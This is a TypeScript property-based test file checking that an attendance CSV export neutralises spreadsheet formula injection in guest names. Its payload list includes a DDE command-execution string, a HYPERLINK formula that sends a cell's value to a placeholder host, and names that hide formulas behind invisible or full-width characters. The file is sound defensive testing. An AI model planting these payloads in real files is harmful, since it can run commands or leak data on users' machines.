/**
 * A name that a spreadsheet would calculate (`=cmd|…`, `+`, `-`, `@`, behind a tab, in full width, behind what can't be
 * seen), or that makes a field or a line of its own: it stays one field that is text.
 */
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { createPaperMaker } from '../../src/papers/paper-maker.ts';
import { attendance, guest, listRecipe } from '../papers/meetings.ts';
import { realContent } from '../papers/toolkit-recipes.ts';

const content = await realContent();

async function csvOf(names: readonly string[]): Promise<string> {
  const maker = createPaperMaker(content, async () => attendance(names.map((name) => guest({ name, answer: 'yes' }))));
  const { bytes } = await maker.make(listRecipe('attendance-csv'));
  return new TextDecoder('utf-8', { fatal: true }).decode(bytes);
}

/** Fields as a spreadsheet reads them (RFC 4180, with semicolons); throws where a line is not made of quoted fields. */
function fieldsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  for (const match of csv.matchAll(/"((?:[^"]|"")*)"(;|\r\n)/gy)) {
    row.push((match[1] ?? '').replaceAll('""', '"'));
    at += match[0].length;
    if (match[2] === ';') continue;
    rows.push(row);
    row = [];
  }
  if (at !== csv.length) throw new Error(`Not a field: ${JSON.stringify(csv.slice(at, at + 40))}`);
  return rows;
}

/** What spreadsheets take for the start of a formula, once they have passed over what is not seen. */
const BEGINS_FORMULA = /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u;

const FORMULAS = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://x.example/?"&A1;"klik")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '\u00A0=1+1',
  '\u200B\u2060=1+1',
  '\u202E=1+1',
  '\u3164=1+1',
  '＝1+1',
  '＠SUM(1)',
  '";=1+1;"',
  '"\r\n"=1+1',
  'Fatma";"=1',
];

it('is text in one field, whatever it begins with', async () => {
  const rows = fieldsOf(await csvOf(FORMULAS));
  expect(rows).toHaveLength(FORMULAS.length + 1);
  for (const row of rows) {
    expect(row).toHaveLength(6);
    for (const field of row) expect(BEGINS_FORMULA.test(field), JSON.stringify(field)).toBe(false);
  }
});

it('is text in one field, for any name at all', async () => {
  const sign = fc.constantFrom(...'=+-@＝"\';,|\t\r\n\u0000\u200B\u00A0\u202Ea 1'.split(''));
  const name = fc.array(sign, { minLength: 1, maxLength: 8 }).map((signs) => signs.join(''));
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.oneof(name, fc.string({ unit: 'binary', maxLength: 12 })), { maxLength: 20 }),
      async (names) => {
        const rows = fieldsOf(await csvOf(names));
        expect(rows).toHaveLength(names.length + 1);
        for (const field of rows.flat()) expect(BEGINS_FORMULA.test(field), JSON.stringify(field)).toBe(false);
      },
    ),
    { numRuns: 60, seed: 20261122 },
  );
});
